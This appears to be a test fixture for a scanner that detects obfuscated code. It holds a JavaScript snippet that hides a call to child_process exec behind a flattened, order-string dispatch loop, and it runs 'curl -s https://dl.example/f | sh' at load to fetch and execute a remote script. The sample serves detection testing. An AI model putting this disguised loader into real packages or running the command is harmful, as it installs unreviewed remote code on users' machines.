// expect: category=obfuscation min=80 context=plugin,package
// why: control flow is flattened into a dispatch loop driven by an order string.
function start() {
  var order = '3|1|4|0|2'.split('|');
  var i = 0;
  var m, c, cmd, mod;
  while (true) {
    switch (order[i++]) {
      case '0':
        c = m['exe' + 'c'];
        continue;
      case '1':
        mod = mod + '_process';
        continue;
      case '2':
        c.call(m, cmd);
        continue;
      case '3':
        mod = 'child';
        cmd = 'curl -s https://dl.example/f | sh';
        continue;
      case '4':
        m = require(mod);
        continue;
    }
    break;
  }
}
start();
